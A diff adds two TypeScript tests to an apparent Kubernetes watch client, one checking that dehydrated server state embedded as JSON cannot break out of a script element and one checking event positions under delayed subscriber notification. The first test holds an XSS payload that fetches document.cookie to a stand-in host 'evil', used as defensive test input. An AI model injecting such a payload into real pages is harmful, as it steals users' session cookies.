@@ -101,6 +101,48 @@ test('a server renders what it has given on, and a position that is too old is a
   kc.close();
 });
 
+// Whoever may annotate a job that others are shown must not be able to end the element in which the page has it.
+test('what a server knows, written into a page as JSON, ends no script element', async () => {
+  const evil = '</script><script>fetch("//evil/"+document.cookie)</script><!--<script>\u2028\u2029';
+  const is = ready(rendering.watch(jobs));
+  await pass();
+  const told = { metadata: { name: 'a', uid: 'a', annotations: { note: evil, [evil]: 'a key' } } };
+  server.last.accept(frame('w0.added', 'e', told), frame('w0.synced', 'e.w0-7', { resourceVersion: '7', count: 1 }));
+  await pass();
+  await is;
+  const text = JSON.stringify({ state: dehydrate(rendering) });
+  rendering.close();
+  expect(text).not.toMatch(/[<\u2028\u2029]/);
+  const kc = createKubecast({ token: () => 't', fetch: new ScriptedFetch().fetch });
+  hydrate(kc, (JSON.parse(text) as { state: Dehydrated }).state);
+  expect(kc.watch(jobs).getServerSnapshot().data).toEqual([told]);
+  kc.close();
+});
+
+// Subscribers may be told later than what happened is known; the position is not held back for them.
+test('what is given is what was known at the position that is given with it, however seldom subscribers are told', async () => {
+  const gateway = new ScriptedFetch();
+  const kc = createKubecast({ token: () => 't', fetch: gateway.fetch, schedule: (flush) => setTimeout(flush, 1_000) });
+  const all = Promise.all([ready(kc.watch(jobs)), ready(kc.follow(phases))]);
+  await pass();
+  const body = gateway.last.accept(
+    frame('w0.added', 'e', object('a')) + frame('w0.synced', 'e.w0-1', { resourceVersion: '1', count: 1 }),
+    frame('w1.counts', 'e.w0-1.w1-1', { counts: [{ value: 'Running', count: 3 }], resourceVersion: '1' }),
+  );
+  await pass(1_000);
+  await all;
+  body.push(
+    frame('w0.modified', 'e.w0-2.w1-1', { metadata: { name: 'a', uid: 'a', resourceVersion: '2' } }) +
+      frame('w1.counts', 'e.w0-2.w1-2', { counts: [{ value: 'Running', count: 4 }], resourceVersion: '2' }),
+  );
+  await pass();
+  const { lastEventId, watches } = dehydrate(kc);
+  kc.close();
+  expect(lastEventId).toBe('e.w0-2.w1-2');
+  expect(watches['/apis/batch/v1/jobs']?.events[0]).toMatchObject({ object: { metadata: { resourceVersion: '2' } } });
+  expect(watches[phases.path]?.events[0]).toMatchObject({ data: expect.stringContaining('"count":4') as string });
+});
+
 test('who waits for a watch is told why there will be none', async () => {
   const waiting = ready(rendering.watch(jobs));
   const told = expect(waiting).rejects.toThrow('HTTP 403');
